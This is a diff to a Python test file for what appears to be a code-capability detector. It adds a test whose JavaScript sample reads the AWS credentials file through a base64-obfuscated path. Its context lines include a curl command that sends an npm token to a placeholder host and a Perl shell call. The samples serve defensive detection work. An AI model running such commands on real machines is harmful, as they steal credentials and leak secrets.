@@ -139,6 +139,12 @@ def test_a_constant_of_perl_stands_for_its_value():
     assert layers("use constant {A => 'id', B => 1}; system(A)", "perl") == [("shell", ("shell",), "id")]
 
 
+def test_a_text_that_is_put_together_for_a_call_in_a_loop_is_looked_at():
+    path = "process.env.HOME+Buffer.from('Ly5hd3MvY3JlZGVudGlhbHM=','base64')"
+    text = f"for(let i=0;i<1;i++)console.log(require('fs').readFileSync({path}))"
+    assert "credentials.files" in capabilities(text, "javascript")
+
+
 def test_a_secret_of_the_environment_in_a_started_command_is_sent():
     text = "require('child_process').execSync('curl https://e/?t='+process.env.NPM_TOKEN)"
     assert "network.send-secret" in capabilities(text, "javascript")
